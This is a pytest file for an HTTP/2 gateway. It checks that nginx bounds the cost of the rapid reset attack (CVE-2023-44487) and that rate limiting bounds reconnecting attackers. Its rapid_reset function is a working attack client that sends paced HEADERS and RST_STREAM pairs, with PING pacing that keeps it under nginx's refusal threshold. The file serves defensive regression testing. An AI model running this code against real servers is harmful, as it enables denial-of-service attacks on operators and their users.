"""HTTP/2 rapid reset (CVE-2023-44487) through real nginx: what one attacking connection costs the
backend is bounded, and an ordinary client still gets its answer."""

from __future__ import annotations

import socket
import ssl
import time
from collections.abc import Callable

import h2.config
import h2.connection
import h2.events
import httpx
import pytest
import trustme

from conftest import Backend, Gateway
from test_tls import gateway_yaml, https, route_yaml, tls_secret

pytestmark = pytest.mark.timeout(60)

HOST = "secure.example.com"
ATTACK_SECONDS = 3.0
# nginx closes a connection (GOAWAY) after keepalive_requests streams: 1000, nginx's default.
STREAMS_PER_CONNECTION = 1000


def rapid_reset(addr: str, port: int, ctx: ssl.SSLContext, seconds: float, batch: int = 50) -> tuple[int, bool]:
    """HEADERS + RST_STREAM pairs on one connection until the server ends it or `seconds` pass.

    Paced: after each `batch` pairs a PING, and the next batch only once its ACK is back, so
    nginx never sees more new streams in one read than it tolerates (twice
    http2_max_concurrent_streams: beyond that it refuses streams, then drops the connection).
    That is the attacker the per-connection request limit is for. Returns (pairs sent, whether
    the server ended the connection)."""
    raw = socket.create_connection((addr, port), timeout=5)
    sock = ctx.wrap_socket(raw, server_hostname=HOST)
    assert sock.selected_alpn_protocol() == "h2"
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    headers = [(":method", "GET"), (":scheme", "https"), (":authority", HOST), (":path", "/reset")]
    sent, ended = 0, False
    deadline = time.monotonic() + seconds
    sock.settimeout(1.0)
    try:
        while not ended and time.monotonic() < deadline:
            for _ in range(batch):
                stream = conn.get_next_available_stream_id()
                conn.send_headers(stream, headers, end_stream=True)
                conn.reset_stream(stream)
                sent += 1
            conn.ping(b"wardgate")
            sock.sendall(conn.data_to_send())
            acked = False
            while not acked and not ended:
                data = sock.recv(65536)
                if not data:
                    ended = True
                    break
                for event in conn.receive_data(data):
                    acked = acked or isinstance(event, h2.events.PingAckReceived)
                    ended = ended or isinstance(event, h2.events.ConnectionTerminated)
                sock.sendall(conn.data_to_send())
    except (ConnectionError, ssl.SSLError, h2.exceptions.ProtocolError):
        ended = True
    finally:
        sock.close()
    return sent, ended


RATE_LIMIT = """
---
apiVersion: policy.wardgate.io/v1alpha1
kind: RateLimitPolicy
metadata: {name: per-client, namespace: default}
spec:
  targetRefs: [{kind: Gateway, name: gw}]
  requests: 20
  unit: Second
  burst: 20
"""


def test_rapid_reset_cost_is_bounded(gateway: Gateway, backends: Callable[..., Backend]) -> None:
    ca = trustme.CA(key_type=trustme.KeyType.RSA)
    app = backends("app")
    manifests = (gateway_yaml(https("https", HOST)), tls_secret("cert", ca, HOST), app.manifests(), route_yaml())
    gateway.write("gw.yaml", *manifests)
    gateway.reconcile()
    addr = gateway.address()
    ctx = ssl.create_default_context()
    ca.configure_trust(ctx)
    ctx.set_alpn_protocols(["h2"])
    backend = app.servers[0]

    def backend_connections(action: Callable[[], object]) -> int:
        before = backend.connections_accepted
        action()
        time.sleep(0.2)  # let the backend's accept loop catch up
        return backend.connections_accepted - before

    # 1. One connection: every reset stream nginx started may have opened a backend connection,
    # but after keepalive_requests streams nginx ends the connection (GOAWAY). The old limit,
    # 10,000, let this attacker cost the backend thousands of connections.
    result: list[tuple[int, bool]] = []
    opened = backend_connections(lambda: result.append(rapid_reset(addr, 8443, ctx, ATTACK_SECONDS)))
    sent, ended = result[0]
    assert ended, "nginx must end the attacking connection"
    assert sent <= STREAMS_PER_CONNECTION
    assert opened <= STREAMS_PER_CONNECTION

    # A normal client is still served, over HTTP/2.
    transport = httpx.HTTPTransport(http2=True, verify=ctx)
    with httpx.Client(transport=transport, timeout=5) as client:
        r = client.get(f"https://{addr}:8443/after", headers={"Host": HOST}, extensions={"sni_hostname": HOST})
    assert r.status_code == 200
    assert r.http_version == "HTTP/2"
    assert r.json()["path"] == "/after"

    # 2. An attacker that reconnects is bounded per client by a RateLimitPolicy: limit_req refuses
    # a stream before nginx connects to the backend.
    gateway.write("gw.yaml", *manifests, RATE_LIMIT)
    gateway.reconcile()  # a new zone: burst + 1 requests now, then 20 a second

    def reconnecting() -> float:
        start, connections = time.monotonic(), 0
        while connections < 2 and time.monotonic() - start < 1.0:
            rapid_reset(addr, 8443, ctx, 1.0 - (time.monotonic() - start))
            connections += 1
        return time.monotonic() - start

    took: list[float] = []
    opened = backend_connections(lambda: took.append(reconnecting()))
    assert opened <= 21 + 20 * (took[0] + 1)
